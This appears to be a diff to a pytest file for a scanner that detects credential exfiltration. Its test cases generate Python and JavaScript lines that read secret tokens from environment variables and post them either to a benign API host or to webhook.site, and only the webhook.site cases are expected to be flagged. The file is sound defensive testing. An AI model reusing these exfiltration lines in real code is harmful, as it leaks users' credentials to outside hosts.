@@ -39,13 +39,14 @@ def _run(text: str, kind: FileKind, lang: Lang) -> tuple[int, set[str]]:
 @pytest.mark.parametrize(
     ("text", "kind", "lang", "rules"),
     [
-        # credentials sent to a host, so they are followed (`flow_demand`), each to its own API
-        ("U = 'https://api.example.com/x'\n"
+        # credentials sent to a host, so they are followed (`flow_demand`), each to its own API (the
+        # script names another host, which their names do not name: `flow_hosts`)
+        ("# status: https://status.vendor.test\nU = 'https://api.example.com/x'\n"
          + "".join(f"k{n} = os.environ.get('A{n}_EXAMPLE_TOKEN')\nrequests.post(U, data=k{n})\n" for n in range(30)),
          FileKind.PYTHON, PY, set()),
         ("".join(f"k{n} = os.environ.get('A{n}_TOKEN')\nrequests.post('https://webhook.site/x', data=k{n})\n"
                  for n in range(30)), FileKind.PYTHON, PY, {"exfil-credential-env"}),
-        ("const U = 'https://api.example.com/x';\n"
+        ("// status: https://status.vendor.test\nconst U = 'https://api.example.com/x';\n"
          + "".join(f"const k{n} = process.env.A{n}_EXAMPLE_TOKEN; axios.post(U, k{n});\n" for n in range(30)),
          FileKind.JAVASCRIPT, JS, set()),
         ("".join(f"const k{n} = process.env.A{n}_TOKEN; axios.post('https://webhook.site/x', k{n});\n"
